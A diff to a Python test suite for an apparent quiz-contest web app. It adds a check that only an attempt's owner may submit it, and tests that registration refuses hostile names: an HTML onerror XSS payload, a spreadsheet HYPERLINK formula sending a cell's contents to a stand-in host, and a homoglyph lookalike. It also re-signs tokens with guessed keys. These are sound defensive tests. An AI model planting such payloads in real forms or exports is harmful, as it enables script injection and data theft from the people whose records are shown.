@@ -40,6 +40,7 @@ class Town:
         self.secret = stack.functions["quiz"].runtime.secret
         self.phones: list[str] = []
         self.tokens: list[str] = []
+        self.sessions: dict[str, str] = {}  # attempt id -> the session that started it (submit needs it)
 
     def sms(self, e164: str | None = None) -> list[dict]:
         path = self.stack.outbox_path
@@ -79,15 +80,23 @@ class Town:
         reply = self.http.post("/api/quiz", {}, token=session)
         assert reply.status == 200, reply.body
         self.tokens.append(reply.body["token"])
+        self.sessions[reply.body["attempt_id"]] = session
         return reply.body
 
-    def submit(self, quiz: dict, correct: int = 10, prediction: int = 100, token: str | None = None):
+    def submit(
+        self,
+        quiz: dict,
+        correct: int = 10,
+        prediction: int = 100,
+        token: str | None = None,
+        session: str | None = None,
+    ):
         body = {
             "token": token or quiz["token"],
             "answers": answers_for(quiz, self.right_text, correct),
             "prediction": prediction,
         }
-        return self.http.post("/api/submit", body)
+        return self.http.post("/api/submit", body, token=session or self.sessions[quiz["attempt_id"]])
 
     def standings(self) -> list:
         from contest.repository import Repository
@@ -212,8 +221,11 @@ class TestTokens:
         for key in (b"guess" * 10, b""):
             swapped = resign(theirs["token"], key, claims={"aid": mine["attempt_id"]})
             assert town.submit(mine, token=swapped).body["code"] == "INVALID_TOKEN"
-        # their own valid token with my answers: it scores their attempt, never mine
-        reply = town.submit(mine, token=theirs["token"])
+        # their own valid token sent with my session: refused (an attempt is submitted by its owner only)
+        refused = town.submit(mine, token=theirs["token"])
+        assert (refused.status, refused.body["code"]) == (403, "NOT_YOUR_ATTEMPT")
+        # their own valid token with their session and my answers: it scores their attempt, never mine
+        reply = town.submit(mine, token=theirs["token"], session=theirs_session)
         assert reply.status in (200, 422)
         if reply.status == 200:
             assert reply.body["attempt_id"] == theirs["attempt_id"]
@@ -335,8 +347,19 @@ class TestRequestShape:
         )
         assert (reply.status, reply.body["code"]) == (422, "INVALID_NAME")
 
-    def test_html_in_a_name_comes_back_as_text_in_json_only(self, town):
-        name = '<img src=x onerror="alert(1)"> Lê'
+    @pytest.mark.parametrize(
+        "name", ['<img src=x onerror="alert(1)"> Lê', '=HYPERLINK("http://x"&D2,"x")', "Nguy\u0435̃n Văn An"]
+    )
+    def test_markup_formula_and_lookalike_names_are_refused(self, town, name):
+        reply = town.http.post(
+            "/api/register",
+            {"full_name": name, "phone": "0912000403", "unit_id": "so-tttt", "password": PASSWORD, "consent": True},
+        )
+        assert (reply.status, reply.body["code"]) == (422, "INVALID_NAME")
+        assert "Họ và tên" in reply.body["message"]
+
+    def test_a_name_with_an_apostrophe_comes_back_as_text_in_json_only(self, town):
+        name = "H'Hen Niê"
         session = town.contestant("0912000402", name)
         me = town.http.get("/api/me", token=session)
         assert me.headers["content-type"].startswith("application/json")
